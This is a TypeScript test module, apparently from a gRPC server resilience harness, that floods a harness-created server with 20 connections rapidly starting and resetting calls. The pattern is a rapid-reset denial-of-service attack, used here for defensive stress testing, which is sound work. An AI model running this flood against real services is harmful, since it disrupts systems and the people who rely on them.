import { setImmediate } from "node:timers/promises";
import { defineServerAttack, type ServerAttack } from "../attack.ts";
import { findGrpcVictimProblems, GrpcAttackConnection, setUpGrpcServer } from "../grpc-attack-client.ts";

export const attack: ServerAttack = defineServerAttack({
  title: "20 gRPC connections open and reset calls as fast as they can",
  setUpServer: setUpGrpcServer,
  run: async (target) => {
    const connections = await Promise.all(
      Array.from({ length: 20 }, () => GrpcAttackConnection.open(target)),
    );
    let resetCalls = 0;
    for (let round = 0; round < 100; round++) {
      for (const connection of connections) {
        for (let call = 0; call < 50; call++) {
          const stream = connection.startCall("ListTasks");
          if (!stream) break;
          stream.close(8);
          resetCalls++;
        }
      }
      await setImmediate();
    }
    return { figures: { resetCalls }, problems: await findGrpcVictimProblems(target) };
  },
});
